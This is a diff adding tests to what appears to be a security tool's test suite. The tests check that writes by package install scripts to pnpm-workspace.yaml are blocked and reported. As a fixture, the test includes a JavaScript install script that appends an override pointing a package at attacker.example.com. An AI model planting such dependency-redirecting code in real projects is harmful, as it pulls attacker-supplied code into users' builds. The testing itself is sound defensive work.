@@ -7,6 +7,7 @@ import sys
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
 from harness import test  # noqa: E402
+from honest import FIXTURES  # noqa: E402
 from npm_registry import NpmRegistry  # noqa: E402
 
 FACTS = {"rows": "A109", "stops": "commit, attribution", "event": "change.protected"}
@@ -79,3 +80,29 @@ def a_process_left_running(t):
     """a process that a script leaves changes the lockfile when npm has written it: an alert, and nothing committed"""
     alert = Scene(t, LEAVE).attack("package-lock.json")
     t.contains(json.dumps(alert), "evil")
+
+
+def workspace_of_pnpm(manager):
+    def body(t):
+        scene = Scene(t, "const fs = require('fs'), file = process.env.INIT_CWD + '/pnpm-workspace.yaml'\n"
+                      "fs.appendFileSync(file, 'overrides:\\n  quiet: https://attacker.example.com/quiet.tgz\\n')\n")
+        env = scene.env | {"pnpm_config_registry": scene.registry.url(), "INIT_CWD": str(t.project),
+                           "PATH": f"{FIXTURES / manager / 'prefix'}/bin:{t.env['PATH']}"}
+        before = "onlyBuiltDependencies: [evil]\nallowBuilds:\n  evil: true\nsideEffectsCache: false\n"
+        t.write("pnpm-workspace.yaml", before)
+        t.bare("pnpm", "add", "evil", env=env)
+        t.contains(scene.text("pnpm-workspace.yaml"), "attacker.example.com", "control")
+        t.bare("rm", "-rf", "node_modules", "pnpm-lock.yaml")
+        scene.reset()
+        t.write("pnpm-workspace.yaml", before)
+        result = t.sandbox("pnpm", "add", "evil", env=env, options=scene.options)
+        t.equal(scene.text("pnpm-workspace.yaml"), before, result)
+        alerts = [e for e in result.of_type("change.protected") if e["details"]["path"] == "pnpm-workspace.yaml"]
+        t.equal([e["actor"]["package"] for e in alerts], ["evil"], result)
+
+    body.__doc__ = f"{manager}: a script adds to pnpm-workspace.yaml, which says where packages come from, while pnpm may write there: an alert that names it"
+    test(time_limit=120)(body)
+
+
+for one in ("pnpm10", "pnpm12"):
+    workspace_of_pnpm(one)
